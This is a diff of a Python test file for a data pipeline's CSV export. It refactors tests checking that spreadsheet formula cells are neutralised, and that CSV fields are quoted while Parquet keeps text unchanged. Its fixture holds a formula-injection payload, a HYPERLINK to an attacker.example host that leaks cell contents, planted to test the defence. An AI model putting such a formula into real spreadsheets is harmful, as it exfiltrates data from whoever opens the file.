@@ -2,15 +2,12 @@
 
 from __future__ import annotations
 
-import csv
-
 import duckdb
-import pyarrow.parquet as pq
 import pytest
 
 from pipelines.lib.publish.extracts import publish_department
 from pipelines.lib.publish.spreadsheet_csv import BOM, FORMULA_PREFIXES, neutralise
-from tests.publish.helpers import TEST_KEY
+from tests.publish.helpers import TEST_KEY, csv_records, csv_rows, files_of, read_arrow
 
 PLANTED = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
@@ -47,22 +44,19 @@ def test_formula_cells_are_neutralised_in_the_published_csv(city_copy, policy, c
     path = folder / "dim_organisation" / "dim_organisation.csv"
     raw = path.read_bytes()
     assert raw.startswith(BOM)
-    with path.open(encoding="utf-8-sig", newline="") as handle:
-        rows = list(csv.DictReader(handle))
-    names = {row["organisation_key"]: row["name"] for row in rows}
+    names = {row["organisation_key"]: row["name"] for row in csv_records(path)}
     for key, name in zip(keys, PLANTED, strict=True):
         assert names[key] == neutralise(name)
         assert names[key] == ("'" + name if name.startswith(FORMULA_PREFIXES) else name)
     # No text cell of any CSV of the extract starts a formula.
-    for table_csv in folder.rglob("*.csv"):
-        with table_csv.open(encoding="utf-8-sig", newline="") as handle:
-            for row in csv.reader(handle):
-                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), table_csv
+    for table_csv in (f for f in files_of(folder) if f.suffix == ".csv"):
+        for row in csv_rows(table_csv):
+            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), table_csv
     # Every field is quoted, so an embedded quote or comma cannot open a new cell.
     first_data_line = raw[len(BOM):].split(b"\n")[1]
     assert first_data_line.startswith(b'"')
     # The Parquet files keep the text as it is: only spreadsheets need the quote.
-    parquet = pq.read_table(folder / "dim_organisation" / "dim_organisation.parquet").to_pylist()
+    parquet = read_arrow(folder / "dim_organisation" / "dim_organisation.parquet").to_pylist()
     assert {r["organisation_key"]: r["name"] for r in parquet if r["organisation_key"] in keys} == dict(zip(keys, PLANTED))
 
 
@@ -73,7 +67,6 @@ def test_numbers_stay_numbers(city_copy, policy, contracts) -> None:
         "WHERE place_key = (SELECT min(place_key) FROM dim_place WHERE longitude IS NOT NULL)")
     connection.close()
     folder = publish_department(city_copy, policy, policy.departments["market_regulation"], contracts, key=TEST_KEY).folder
-    with (folder / "dim_place" / "dim_place.csv").open(encoding="utf-8-sig", newline="") as handle:
-        longitudes = [row["longitude"] for row in csv.DictReader(handle)]
+    longitudes = [row["longitude"] for row in csv_records(folder / "dim_place" / "dim_place.csv")]
     negative = [v for v in longitudes if v.startswith("-")]
     assert len(negative) == 1 and float(negative[0]) < 0
